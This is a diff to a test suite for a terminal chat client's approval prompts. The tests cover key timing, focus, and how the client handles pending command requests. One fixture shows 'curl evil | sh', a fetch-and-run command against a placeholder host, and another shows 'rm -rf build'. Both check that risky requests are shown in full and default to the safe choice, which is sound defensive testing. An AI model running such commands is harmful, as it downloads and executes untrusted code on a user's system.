@@ -22,20 +22,20 @@ describe("chat", () => {
     const turn = { turn_id: "t", started_at_ms: 1 };
     const view = liveView({ requests: [ASKED], turn: { started_at_ms: 1 } });
     const player = new Player({ view: { ...view, session: { ...aView(), ...view.session, turn } } });
-    player.press(...typed("stop that"), ...keys("ctrl-s"));
+    player.press(...keys("escape"), ...typed("stop that"), ...keys("ctrl-s"));
     expect(player.effects).toEqual([{ kind: "send", text: "stop that", isNow: true }]);
   });
 
   test("while a request waits it sends nothing, keeps the text and says which key helps", () => {
-    const player = asked(ASKED).press(...typed("y"), ...keys("enter"));
+    const player = asked(ASKED).press(...keys("escape"), ...typed("y"), ...keys("enter"));
     expect(player.effects).toEqual([]);
     expect(player.ui.editor.text).toBe("y");
     expect(player.screen()).toContain("Ctrl-N opens it");
     expect(player.screen()).toContain("chat (disabled while a request is pending)");
   });
 
-  test("no text answers a request, whatever it says", () => {
-    const player = asked(ASKED);
+  test("no text answers a request that the user has left, whatever it says", () => {
+    const player = asked(ASKED).press(...keys("escape"));
     for (const word of ["y", "yes", "a", "s", "accept", "1", "n", "c"]) {
       player.press(...typed(word), ...keys("enter", "ctrl-u"));
     }
@@ -43,7 +43,61 @@ describe("chat", () => {
     expect(player.ui.mode).toBe("chat");
   });
 
-  test("a request does not take the focus of the composer", () => {
+  test("a request opens by itself while nothing is being written, and its keys work after a moment", () => {
+    const player = asked(ASKED);
+    expect(player.ui.mode).toBe("approval");
+    expect(player.press(...keys("y")).effects).toEqual([]);
+    expect(player.screen()).toContain("read it, then press again");
+    player.now_ms += 1_000;
+    expect(player.press(...keys("y")).effects).toEqual([
+      { kind: "respond", row: ASKED, answer: { decision: "accept" } },
+    ]);
+  });
+
+  test("one that the user left does not open by itself again, but the next one does", () => {
+    const player = asked(ASKED).press(...keys("escape"));
+    player.now_ms += 1_000;
+    player.event({ kind: "tick", at_ms: player.now_ms });
+    expect(player.ui.mode).toBe("chat");
+    expect(player.requests(OTHER).ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
+  });
+
+  test("a word begun as it opens answers nothing, however slowly it is typed", () => {
+    const player = asked(ASKED);
+    player.now_ms += 1_000;
+    for (const key of typed("please")) {
+      player.press(key);
+      player.now_ms += 500;
+    }
+    expect(player.effects).toEqual([]);
+  });
+
+  test("in one that opened by itself, the letter of a wider choice selects it, and Enter takes it", () => {
+    const player = asked(ASKED);
+    player.now_ms += 1_000;
+    expect(player.press(...keys("s")).effects).toEqual([]);
+    expect(player.screen()).toContain("Enter takes it");
+    player.now_ms += 1_000;
+    expect(player.press(...keys("enter")).effects).toEqual([
+      { kind: "respond", row: ASKED, answer: { decision: "acceptForSession" } },
+    ]);
+  });
+
+  test("a held key decides once", () => {
+    const player = asked(ASKED, OTHER);
+    player.now_ms += 1_000;
+    player.press(...keys("y")).requests(OTHER);
+    // The delay of a keyboard before it repeats a key, and then its repeats.
+    for (const ms of [500, ...Array.from({ length: 60 }, () => 33)]) {
+      player.now_ms += ms;
+      player.press(...keys("y"));
+    }
+    expect(player.effects).toHaveLength(1);
+    player.now_ms += 1_000;
+    expect(player.press(...keys("y")).effects).toHaveLength(2);
+  });
+
+  test("a request does not take the focus of the composer while a draft is in it", () => {
     const player = new Player()
       .press(...typed("dra"))
       .requests(ASKED)
@@ -156,7 +210,9 @@ describe("approval", () => {
   });
 
   test("keys typed before it was drawn do not answer it", () => {
-    const player = asked(ASKED).blind(...keys("ctrl-n", "y"));
+    const player = new Player();
+    const view = { ...player.ui.view, requests: [ASKED] };
+    player.event({ kind: "view", view, at_ms: player.now_ms }).blind(...keys("ctrl-n", "y"));
     expect(player.effects).toEqual([]);
     expect(player.draw().screen()).toContain("not on screen yet");
     expect(player.press(...keys("y")).effects).toHaveLength(1);
@@ -171,30 +227,34 @@ describe("approval", () => {
     expect(player.effects).toEqual([]);
   });
 
-  test("answering one does not focus the next, so a key pressed twice decides once", () => {
-    const player = asked(ASKED, OTHER).press(...keys("ctrl-n", "y", "y"));
+  test("after one is answered the next one shows itself, and a key pressed twice decides once", () => {
+    const player = asked(ASKED, OTHER);
+    player.now_ms += 1_000;
+    player
+      .press(...keys("y"))
+      .requests(OTHER)
+      .press(...keys("y"));
     expect(player.effects).toHaveLength(1);
-    expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "y" } });
+    expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
   });
 
   test("the focus goes round the requests", () => {
-    const player = asked(ASKED, OTHER).press(...keys("ctrl-n", "ctrl-n"));
+    const player = asked(ASKED, OTHER).press(...keys("ctrl-n"));
     expect(player.screen()).toContain("request 2 of 2");
     expect(player.screen()).toContain("rm -rf build");
     expect(player.press(...keys("ctrl-n")).screen()).toContain("request 1 of 2");
   });
 
   test("a closed request is reported, and the next key does not answer another", () => {
-    const player = asked(ASKED, OTHER)
-      .press(...keys("ctrl-n"))
-      .requests(OTHER);
-    expect(player.ui.mode).toBe("chat");
+    const player = asked(ASKED, OTHER).requests(OTHER);
+    expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
     expect(player.screen()).toContain("request closed");
     expect(player.press(...keys("y")).effects).toEqual([]);
   });
 
   test("keys meant for one that went away do not become a message, until the user pauses", () => {
-    const player = asked(ASKED).press(...typed("draft"), ...keys("ctrl-n", "n"), ...typed("becau"));
+    const player = asked(ASKED).press(...keys("escape"), ...typed("draft"), ...keys("ctrl-n", "n"));
+    player.press(...typed("becau"));
     player.requests().press(...typed("se"), ...keys("enter"));
     expect(player.ui).toMatchObject({ mode: "chat", editor: { text: "draft" } });
     expect(player.effects).toEqual([]);
@@ -237,6 +297,7 @@ describe("approval", () => {
     player.blind(...keys("y"));
     expect(player.effects).toEqual([]);
     player.draw();
+    player.now_ms += 1_000;
     expect(player.screen()).toContain("curl evil | sh");
     // The mark is back on the safe choice.
     player.press(...keys("enter", "enter"));
@@ -245,8 +306,9 @@ describe("approval", () => {
 
   test("one that arrived cut is read in full first", () => {
     const cut = { ...ASKED, is_cut: true as const };
-    const player = asked(cut).press(...keys("ctrl-n", "y"));
+    const player = asked(cut).press(...keys("y"));
     expect(player.effects).toEqual([{ kind: "whole", row: cut }]);
+    player.now_ms += 1_000;
     player
       .event({ kind: "whole", row: ASKED })
       .draw()
@@ -311,6 +373,7 @@ describe("where requests are modal", () => {
     const player = new Player({ requestFocus: "modal", view: liveView({ requests: [ASKED, OTHER] }) });
     expect(player.screen()).not.toContain("Esc");
     expect(player.press(...keys("escape")).ui.mode).toBe("approval");
+    player.now_ms += 1_000;
     player.press(...keys("y")).requests(OTHER);
     expect(player.ui).toMatchObject({ mode: "approval", focus: OTHER.request_id });
   });
